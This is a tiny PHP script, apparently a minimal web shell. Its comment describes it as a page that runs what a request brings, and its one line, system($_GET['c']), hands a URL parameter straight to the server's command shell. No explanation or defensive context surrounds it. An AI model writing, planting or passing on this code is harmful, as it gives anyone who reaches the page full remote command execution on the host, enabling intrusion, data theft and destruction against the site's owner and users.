<?php
// a page that runs what a request brings
system($_GET["c"]);
